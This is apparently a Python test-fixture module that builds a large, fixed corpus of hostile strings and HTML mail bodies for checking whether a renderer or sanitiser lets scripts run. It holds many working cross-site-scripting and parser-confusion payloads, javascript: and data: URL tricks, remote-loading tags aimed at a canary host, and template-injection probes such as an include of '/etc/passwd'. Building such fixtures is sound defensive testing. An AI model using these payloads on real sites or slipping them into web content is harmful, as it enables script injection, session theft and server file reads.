"""Hostile strings and HTML mails, made from a small grammar: what runs scripts × how it is written down.

`STRINGS` belong into every field that is shown (names, subjects, texts, file names, tags, addresses); `MAILS` are whole
HTML bodies. All of them try to run `SCRIPT` (a dialog opens) or to load something from the host `CANARY`: so a browser
that shows them has been had if it opens a dialog or asks for that host. Nothing here was found elsewhere, and the order
never changes, so a number names a string.
"""

from collections.abc import Iterator

CANARY = "canary.invalid"
SCRIPT = "alert(document.domain)"

_URL = f"http://{CANARY}/x"

# What runs by itself or at the first touch: the tag, its other attributes, the event.
_EVENTS = (
    ("img", "src=x", "onerror"),
    ("img", f"src={_URL}", "onload"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x autoplay", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("div", "tabindex=0 autofocus", "onfocus"),
    ("a", "href=#", "onmouseover"),
    ("p", "", "onpointerenter"),
    ("iframe", "src=about:blank", "onload"),
    ("object", "data=x", "onerror"),
    ("embed", "src=about:blank", "onload"),
    ("link", "rel=stylesheet href=data:,", "onload"),
    ("style", "", "onload"),
    ("script", "src=data:,", "onload"),
    ("marquee", "", "onstart"),
    ("math", "", "onmouseover"),
    ("custom-tag", "tabindex=0 autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("td", "", "onmouseenter"),
    ("meter", "", "onanimationend"),
    ("dialog", "open", "oncancel"),
)

# Ways of writing an attribute with a value that runs.
_WRITTEN = (
    '<{tag} {more} {event}="{script}">',
    "<{tag} {more} {event}='{script}'>",
    "<{tag} {more} {event}={script}>",
    "<{tag}/{more}/{event}={script}//",
    "<{TAG}\n{more}\n{EVENT}\n=\n{script}\n>",
)

# Ways of writing an address that runs.
_SCHEMES = (
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f" \x01 javascript:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java\nscript:{SCRIPT}",
    f"&#106;avascript:{SCRIPT}",
    f"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&colon;{SCRIPT}",
    f"javascript&#58;//%0a{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'/>",
    f"//{CANARY}/x",
    f"http:\\\\{CANARY}\\x",
)

# Where an address can stand.
_PLACES = (
    '<a href="{}">go</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>go</button></form>',
    '<object data="{}"></object>',
    '<svg><a xlink:href="{}"><text y="20">go</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<img src="{}">',
    '<base href="{}">',
    '<button formaction="{}">go</button>',
    '<link rel="stylesheet" href="{}">',
)

_IMAGE = f"<img src=x onerror={SCRIPT}>"

# Out of the place in which a template might have put it.
_ENDS = "title textarea script style svg noscript template select option summary time pre a button label dialog main li"
_BREAKOUTS = (
    *(f"{out}{_IMAGE}" for out in ('">', "'>", "`>", "-->", "--!>", "]]>", "*/", '\\">')),
    *(f"</{name}>{_IMAGE}" for name in _ENDS.split()),
)
_BREAKOUTS_OF_CODE = (
    f"';{SCRIPT};//",
    f'";{SCRIPT};//',
    f"\\';{SCRIPT};//",
    f"`${{{SCRIPT}}}`",
    f"</script><script>{SCRIPT}</script>",
    f"{{{{{SCRIPT}}}}}",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    f"${{{SCRIPT}}}",
    f"\u2028{SCRIPT}//",
    f'" autofocus onfocus="{SCRIPT}',
    f"' autofocus onfocus='{SCRIPT}",
    f'x" onmouseover="{SCRIPT}" y="',
    f"javascript:{SCRIPT}",
    f"\\u003cimg src=x onerror={SCRIPT}\\u003e",
    f"%3Cimg%20src=x%20onerror={SCRIPT}%3E",
    f"&lt;img src=x onerror={SCRIPT}&gt;",
    f"+ADw-script+AD4-{SCRIPT}+ADw-/script+AD4-",
)

# Written so that two parsers do not see the same.
_CONFUSING = (
    f"<scr\x00ipt>{SCRIPT}</scr\x00ipt>",
    f"<<script>{SCRIPT}//<</script>",
    f"<script\x0c>{SCRIPT}</script\x0c>",
    f"<script/x>{SCRIPT}</script/x>",
    f"<img src=x onerror={SCRIPT}",
    f'<img """><script>{SCRIPT}</script>">',
    f"<img src='x'onerror='{SCRIPT}'>",
    f"<!--><img src=x onerror={SCRIPT}>-->",
    f"<!--[if IE]>{_IMAGE}<![endif]-->",
    f"<![CDATA[<]]>script>{SCRIPT}<![CDATA[<]]>/script>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'>{_IMAGE}</x>",
    f'<noscript><p title="</noscript>{_IMAGE}">',
    f'<svg></p><style><a id="</style>{_IMAGE}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMAGE}">',
    f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{_IMAGE}">',
    f'<math><mi><b><style><b title="</style>{_IMAGE}">',
    f'<svg><desc><noscript><a title="</noscript>{_IMAGE}">',
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><script href=data:,{SCRIPT} /></svg>",
    f"<svg><animate attributeName=href values=javascript:{SCRIPT} begin=0s /><a><text>go",
    f"<svg><set attributeName=onmouseover to={SCRIPT} /><rect width=99 height=99>",
    f"<svg><use href=data:image/svg+xml,%3Csvg%20id=x%20onload={SCRIPT}%3E#x></svg>",
    f"<svg><foreignObject><iframe srcdoc='{_IMAGE}'></iframe></foreignObject></svg>",
    f"<select><template><s></template></select>{_IMAGE}",
    f"<xmp><p title='</xmp>{_IMAGE}'></xmp>",
    f"<textarea><p title='</textarea>{_IMAGE}'></textarea>",
    f"<table><tr><td><table></tr>{_IMAGE}</table>",
    f"<a><table><a>{_IMAGE}</a></table></a>",
    f'<iframe srcdoc="{_IMAGE}"></iframe>',
    f"<iframe srcdoc='&lt;script&gt;{SCRIPT}&lt;/script&gt;'></iframe>",
    f"<plaintext>{_IMAGE}",
    f"<isindex action=javascript:{SCRIPT} type=image>",
    f"<keygen autofocus onfocus={SCRIPT}>",
    f"<listing>&lt;img src=x onerror={SCRIPT}&gt;</listing>",
    f"<frameset onload={SCRIPT}><frame src=javascript:{SCRIPT}></frameset>",
    f"<div id=trunkline name=trunkline data-dialog='{_IMAGE}'><form id=sign-in><input id=token></form></div>",
    f"<b{' x' * 200} onclick={SCRIPT}>",
    f"{'<b>' * 60}{_IMAGE}",
    f"\u202e{_IMAGE}\u202c",
    f"\ufeff\u200b<\u200bimg src=x onerror={SCRIPT}>",
    f"\uff1cimg src=x onerror={SCRIPT}\uff1e",
)  # fmt: skip

# What is loaded without any script.
_LOADING = (
    f'<img src="{_URL}">',
    f'<img srcset="{_URL} 2x" src="cid:none">',
    f'<picture><source srcset="{_URL}"><img></picture>',
    f'<img lowsrc="{_URL}" dynsrc="{_URL}">',
    f'<div style="background:url({_URL})">x</div>',
    f"<div style=\"background-image:u\\72l('{_URL}')\">x</div>",
    f'<style>@import "{_URL}"; body {{ background: url({_URL}) }}</style>',
    f'<table background="{_URL}"><tr><td background="{_URL}">x</td></tr></table>',
    f'<body background="{_URL}">',
    f'<video poster="{_URL}" src="{_URL}"></video>',
    f'<audio src="{_URL}" autoplay></audio>',
    f'<input type="image" src="{_URL}">',
    f'<link rel="prefetch" href="{_URL}"><link rel="dns-prefetch" href="//{CANARY}"><link rel="icon" href="{_URL}">',
    f'<link rel="preload" as="image" href="{_URL}"><link rel="modulepreload" href="{_URL}">',
    f'<meta http-equiv="refresh" content="0; url={_URL}">',
    f'<iframe src="{_URL}"></iframe><frame src="{_URL}"><embed src="{_URL}"><object data="{_URL}"></object>',
    f'<svg><image href="{_URL}"/><image xlink:href="{_URL}"/><use href="{_URL}#x"/></svg>',
    f'<svg style="fill:url({_URL}#x)"><rect fill="url({_URL}#x)" width="9" height="9"/></svg>',
    f'<base href="http://{CANARY}/"><img src="x">',
    f'<a href="#" ping="{_URL}">go</a>',
    f'<blockquote cite="{_URL}">x</blockquote><q cite="{_URL}">x</q>',
    f'<font face="x" style="src:url({_URL})">x</font>',
    f'<script src="{_URL}"></script><script type="module">import "{_URL}"</script>',
)


def _events() -> Iterator[str]:
    for number, (tag, more, event) in enumerate(_EVENTS):
        for written in (_WRITTEN[number % 5], _WRITTEN[(number + 2) % 5], _WRITTEN[(number + 3) % 5]):
            yield written.format(tag=tag, TAG=tag.upper(), more=more, event=event, EVENT=event.title(), script=SCRIPT)


def _addresses() -> Iterator[str]:
    for number, place in enumerate(_PLACES):
        for step in range(6):
            yield place.format(_SCHEMES[(number + 2 * step) % len(_SCHEMES)].replace('"', "&quot;"))


STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys((*_events(), *_addresses(), *_BREAKOUTS, *_BREAKOUTS_OF_CODE, *_CONFUSING, *_LOADING))
)
"""For every field that is shown."""


def _mails() -> Iterator[str]:
    for start in range(0, len(STRINGS), 8):
        inside = "</p>\n<p>".join(STRINGS[start : start + 8])
        yield f"<html><head><title>Hello</title></head><body><p>Dear desk,</p><p>{inside}</p></body></html>"
    for hostile in (*_CONFUSING, *_LOADING):
        yield f"<html><body><table><tr><td><b>Hello</b> {hostile}</td></tr></table><p>Kind regards</p></body></html>"


MAILS: tuple[str, ...] = tuple(_mails())
"""Whole HTML bodies."""
